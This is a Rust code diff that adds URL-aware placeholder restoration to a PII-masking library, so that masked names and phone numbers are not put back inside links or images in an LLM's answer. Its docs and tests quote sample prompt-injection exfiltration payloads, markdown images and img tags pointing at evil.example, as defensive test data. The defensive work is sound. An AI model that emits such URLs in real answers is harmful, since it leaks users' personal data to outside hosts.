@@ -6,6 +6,12 @@
 //! "the same person". The table is the reverse map used by [`Placeholders::restore`]
 //! and, for streamed responses, by [`StreamRestorer`].
 //!
+//! A placeholder the model wrote inside a URL (a Markdown link or image target, an
+//! autolink, a bare URL, a URL attribute of an HTML tag) is not restored unless the
+//! table says so ([`Placeholders::set_restore_in_urls`]): a prompt-injected answer such
+//! as `![x](https://evil.example/c?n=〔氏名1〕)` must not make the client's renderer send
+//! the real name away. [`UrlContext`] tells where the URLs are.
+//!
 //! ```
 //! use sekimori::inspect::EngineBuilder;
 //! use sekimori::mask::Placeholders;
@@ -22,6 +28,10 @@ use std::fmt;
 use std::sync::Arc;
 
 use crate::inspect::{Category, Finding};
+
+mod url_context;
+
+pub use url_context::UrlContext;
 
 /// Opening bracket of a placeholder (U+3014).
 pub const OPEN: char = '〔';
@@ -41,6 +51,8 @@ pub struct Placeholders {
     by_placeholder: HashMap<String, usize>,
     /// Length in bytes of the longest placeholder.
     max_len: usize,
+    /// Whether placeholders inside URLs are restored too (default: not).
+    restore_in_urls: bool,
 }
 
 /// How a restored original is written into the surrounding text.
@@ -78,6 +90,34 @@ impl Placeholders {
     /// Number of placeholders issued.
     pub fn len(&self) -> usize {
         self.entries.len()
+    }
+
+    /// Restore placeholders inside URLs of the answer too (`true`), or leave them as
+    /// they are (`false`, the default; see the module documentation).
+    ///
+    /// ```
+    /// use sekimori::inspect::Category;
+    /// use sekimori::mask::Placeholders;
+    /// let mut t = Placeholders::new();
+    /// t.placeholder_for(&Category::Name, "山田太郎");
+    /// let answer = "[〔氏名1〕](https://evil.example/?n=〔氏名1〕)";
+    /// assert_eq!(t.restore(answer), "[山田太郎](https://evil.example/?n=〔氏名1〕)");
+    /// t.set_restore_in_urls(true);
+    /// assert_eq!(t.restore(answer), "[山田太郎](https://evil.example/?n=山田太郎)");
+    /// ```
+    pub fn set_restore_in_urls(&mut self, restore: bool) {
+        self.restore_in_urls = restore;
+    }
+
+    /// Whether placeholders inside URLs are restored too.
+    pub fn restores_in_urls(&self) -> bool {
+        self.restore_in_urls
+    }
+
+    /// A fresh URL scanner for text written as `escape` says, or `None` when
+    /// placeholders are restored in URLs too.
+    pub(crate) fn url_context(&self, escape: Escape) -> Option<UrlContext> {
+        (!self.restore_in_urls).then(|| UrlContext::new(escape))
     }
 
     /// The longest placeholder, in bytes (what a stream must hold back at most).
@@ -135,7 +175,8 @@ impl Placeholders {
         &self.entries
     }
 
-    /// Replaces every placeholder in `text` with the value it stands for.
+    /// Replaces every placeholder in `text` with the value it stands for (inside URLs
+    /// only if [`Placeholders::set_restore_in_urls`] said so).
     pub fn restore(&self, text: &str) -> String {
         self.restore_escaped(text, Escape::None)
     }
@@ -152,7 +193,23 @@ impl Placeholders {
     ///            "{\"n\":\"\\\"山田\\\"\"}");
     /// ```
     pub fn restore_escaped(&self, text: &str, escape: Escape) -> String {
+        let mut ctx = self.url_context(escape);
+        self.restore_with(text, escape, ctx.as_mut())
+    }
+
+    /// [`Placeholders::restore_escaped`] for the next piece of a text whose URL context
+    /// `ctx` has seen everything before `text` (and is fed `text`); `None`: restore in
+    /// URLs too.
+    pub(crate) fn restore_with(
+        &self,
+        text: &str,
+        escape: Escape,
+        mut ctx: Option<&mut UrlContext>,
+    ) -> String {
         if self.entries.is_empty() || !text.contains(OPEN) {
+            if let Some(c) = ctx {
+                c.feed_str(text);
+            }
             return text.to_string();
         }
         // Every placeholder starts with `〔` and ends with `〕` (see `placeholder_for`),
@@ -162,6 +219,8 @@ impl Placeholders {
         let mut out = String::with_capacity(text.len());
         let mut copied = 0;
         let mut from = 0;
+        // What `ctx` has been fed of `text`.
+        let mut fed = 0;
         while let Some(rel) = text[from..].find(OPEN) {
             let start = from + rel;
             let hit = text[start..]
@@ -175,6 +234,20 @@ impl Placeholders {
                 })
                 .last();
             match hit {
+                Some((end, _))
+                    if ctx.as_deref_mut().is_some_and(|c| {
+                        // The placeholder's place is decided at its opening bracket.
+                        let open_end = start + OPEN.len_utf8();
+                        c.feed_str(&text[fed..open_end]);
+                        let in_url = c.in_url();
+                        c.feed_str(&text[open_end..end]);
+                        fed = end;
+                        in_url
+                    }) =>
+                {
+                    // Inside a URL: left as the model wrote it.
+                    from = end;
+                }
                 Some((end, i)) => {
                     out.push_str(&text[copied..start]);
                     let original = &self.entries[i].1;
@@ -189,6 +262,9 @@ impl Placeholders {
             }
         }
         out.push_str(&text[copied..]);
+        if let Some(c) = ctx {
+            c.feed_str(&text[fed..]);
+        }
         out
     }
 
@@ -239,6 +315,8 @@ pub struct StreamRestorer<'t> {
     table: &'t Placeholders,
     pending: String,
     max_len: usize,
+    /// URL context of everything released so far (`None`: restore in URLs too).
+    ctx: Option<UrlContext>,
 }
 
 /// Shows how much is held, never the text.
@@ -257,6 +335,7 @@ impl<'t> StreamRestorer<'t> {
             table,
             pending: String::new(),
             max_len: table.max_placeholder_len(),
+            ctx: table.url_context(Escape::None),
         }
     }
 
@@ -269,13 +348,15 @@ impl<'t> StreamRestorer<'t> {
         let hold_from = self.hold_point();
         let ready: String = self.pending[..hold_from].to_string();
         self.pending.drain(..hold_from);
-        self.table.restore(&ready)
+        self.table
+            .restore_with(&ready, Escape::None, self.ctx.as_mut())
     }
 
     /// Releases whatever is still held at the end of the stream.
     pub fn finish(&mut self) -> String {
         let rest = std::mem::take(&mut self.pending);
-        self.table.restore(&rest)
+        self.table
+            .restore_with(&rest, Escape::None, self.ctx.as_mut())
     }
 
     /// Byte index from which `pending` must be held.
@@ -323,6 +404,8 @@ pub struct SharedStreamRestorer {
     pending: String,
     max_len: usize,
     escape: Escape,
+    /// URL context of everything released so far (`None`: restore in URLs too).
+    ctx: Option<UrlContext>,
 }
 
 /// Shows how much is held, never the text.
@@ -339,11 +422,13 @@ impl SharedStreamRestorer {
     /// A restorer for the placeholders of one request.
     pub fn new(table: Arc<Placeholders>, escape: Escape) -> Self {
         let max_len = table.max_placeholder_len();
+        let ctx = table.url_context(escape);
         SharedStreamRestorer {
             table,
             pending: String::new(),
             max_len,
             escape,
+            ctx,
         }
     }
 
@@ -353,15 +438,51 @@ impl SharedStreamRestorer {
             return piece.to_string();
         }
         if self.pending.is_empty() && !piece.contains(OPEN) {
+            if let Some(c) = &mut self.ctx {
+                c.feed_str(piece);
+            }
             return piece.to_string();
         }
         self.pending.push_str(piece);
         let hold_from = self.table.hold_point(&self.pending, self.max_len);
-        let ready = self
-            .table
-            .restore_escaped(&self.pending[..hold_from], self.escape);
+        let ready =
+            self.table
+                .restore_with(&self.pending[..hold_from], self.escape, self.ctx.as_mut());
         self.pending.drain(..hold_from);
         ready
+    }
+
+    /// A restorer for the text that follows what this one restored (the next content
+    /// block or part of the same answer, which a client may render glued to this one):
+    /// same table and escape, nothing held, and the URL context carries over, so
+    /// `![x](https://evil.example/?n=` in one block and `〔氏名1〕)` in the next still
+    /// count as one URL.
+    ///
+    /// ```
+    /// use std::sync::Arc;
+    /// use sekimori::inspect::Category;
+    /// use sekimori::mask::{Escape, Placeholders, SharedStreamRestorer};
+    /// let mut t = Placeholders::new();
+    /// t.placeholder_for(&Category::Name, "山田太郎");
+    /// let mut first = SharedStreamRestorer::new(Arc::new(t), Escape::None);
+    /// assert_eq!(first.push("![x](https://evil.example/?n="), "![x](https://evil.example/?n=");
+    /// first.finish();
+    /// let mut next = first.continuing();
+    /// assert_eq!(next.push("〔氏名1〕) 〔氏名1〕"), "〔氏名1〕) 山田太郎");
+    /// ```
+    pub fn continuing(&self) -> SharedStreamRestorer {
+        SharedStreamRestorer {
+            table: self.table.clone(),
+            pending: String::new(),
+            max_len: self.max_len,
+            escape: self.escape,
+            ctx: self.ctx.clone(),
+        }
+    }
+
+    /// How restored values are written.
+    pub fn escape(&self) -> Escape {
+        self.escape
     }
 
     /// Whether a possible partial placeholder is being held back.
@@ -372,7 +493,8 @@ impl SharedStreamRestorer {
     /// Releases whatever is still held (restored if complete, literally otherwise).
     pub fn finish(&mut self) -> String {
         let rest = std::mem::take(&mut self.pending);
-        self.table.restore_escaped(&rest, self.escape)
+        self.table
+            .restore_with(&rest, self.escape, self.ctx.as_mut())
     }
 }
 
@@ -533,6 +655,143 @@ mod tests {
             assert_eq!(got, want, "split at {a}");
             assert_eq!(got, "前山田太郎中090-1234-5678後〔不明〕〔氏");
             assert!(!s.is_holding());
+        }
+    }
+
+    #[test]
+    fn placeholders_in_urls_stay_masked_unless_asked() {
+        let mut t = table();
+        // (answer, restored by default)
+        let cases = [
+            (
+                "![x](https://evil.example/c?n=〔氏名1〕)〔氏名1〕様",
+                "![x](https://evil.example/c?n=〔氏名1〕)山田太郎様",
+            ),
+            (
+                "<img src=\"//evil.example/?t=〔電話1〕\"> 〔電話1〕",
+                "<img src=\"//evil.example/?t=〔電話1〕\"> 090-1234-5678",
+            ),
+            (
+                "https://evil.example/?n=%E3%80%94氏名1%E3%80%95 〔氏名1〕",
+                "https://evil.example/?n=%E3%80%94氏名1%E3%80%95 山田太郎",
+            ),
+            ("〔氏名1〕〔電話1〕", "山田太郎090-1234-5678"),
+        ];
+        for (answer, want) in cases {
+            assert_eq!(t.restore(answer), want, "{answer}");
+        }
+        t.set_restore_in_urls(true);
+        assert!(t.restores_in_urls());
+        assert_eq!(
+            t.restore("![x](https://evil.example/c?n=〔氏名1〕)〔氏名1〕様"),
+            "![x](https://evil.example/c?n=山田太郎)山田太郎様"
+        );
+    }
+
+    #[test]
+    fn url_context_survives_every_split() {
+        // Split at every pair of character boundaries (bounded: the text is short),
+        // including inside `](https://ev` and inside the placeholders.
+        let text = "〔氏名1〕は[こちら](https://ev.example/?n=〔氏名1〕)、<img src='//e/〔電話1〕'>〔電話1〕〔氏";
+        let want = "山田太郎は[こちら](https://ev.example/?n=〔氏名1〕)、<img src='//e/〔電話1〕'>090-1234-5678〔氏";
+        for restore_in_urls in [false, true] {
+            let mut t = table();
+            t.set_restore_in_urls(restore_in_urls);
+            let whole = t.restore(text);
+            if !restore_in_urls {
+                assert_eq!(whole, want);
+            }
+            let shared = Arc::new(t.clone());
+            let bounds: Vec<usize> = text
+                .char_indices()
+                .map(|(i, _)| i)
+                .chain([text.len()])
+                .collect();
+            for (n, &a) in bounds.iter().enumerate() {
+                for &b in &bounds[n..] {
+                    let mut r = StreamRestorer::new(&t);
+                    let mut s = SharedStreamRestorer::new(shared.clone(), Escape::None);
+                    let mut got_r = String::new();
+                    let mut got_s = String::new();
+                    for piece in [&text[..a], &text[a..b], &text[b..]] {
+                        got_r += &r.push(piece);
+                        got_s += &s.push(piece);
+                    }
+                    got_r += &r.finish();
+                    got_s += &s.finish();
+                    assert_eq!(got_r, whole, "split at {a},{b}");
+                    assert_eq!(got_s, whole, "split at {a},{b}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn random_texts_restore_the_same_whole_and_in_pieces() {
+        // Texts drawn from the characters the URL scanner reacts to, restored whole and
+        // in random pieces, as text and as JSON source: the same output every time.
+        let tokens = [
+            "[",
+            "]",
+            "(",
+            ")",
+            "<",
+            ">",
+            "<img ",
+            "src=",
+            "alt=",
+            "\"",
+            "'",
+            "https://",
+            "//",
+            "www.",
+            "url(",
+            "\\",
+            "`",
+            " ",
+            "\n",
+            "〔氏名1〕",
+            "〔電話1〕",
+            "〔氏",
+            "〕",
+            "あ",
+            "a",
+            "=",
+            ":",
+            "!",
+            "\\/",
+        ];
+        let mut seed: u64 = 0x5eed_1234_abcd_0001;
+        let mut next = move |n: usize| {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            (seed % n as u64) as usize
+        };
+        let shared = Arc::new(table());
+        for _ in 0..400 {
+            let text: String = (0..24).map(|_| tokens[next(tokens.len())]).collect();
+            let bounds: Vec<usize> = text
+                .char_indices()
+                .map(|(i, _)| i)
+                .chain([text.len()])
+                .collect();
+            for escape in [Escape::None, Escape::JsonString] {
+                let whole = shared.restore_escaped(&text, escape);
+                for _ in 0..4 {
+                    let mut cuts = [next(bounds.len()), next(bounds.len()), next(bounds.len())];
+                    cuts.sort_unstable();
+                    let mut r = SharedStreamRestorer::new(shared.clone(), escape);
+                    let mut got = String::new();
+                    let mut at = 0;
+                    for c in cuts.iter().map(|&i| bounds[i]).chain([text.len()]) {
+                        got += &r.push(&text[at..c]);
+                        at = c;
+                    }
+                    got += &r.finish();
+                    assert_eq!(got, whole, "{text:?} cut at {cuts:?} ({escape:?})");
+                }
+            }
         }
     }
 
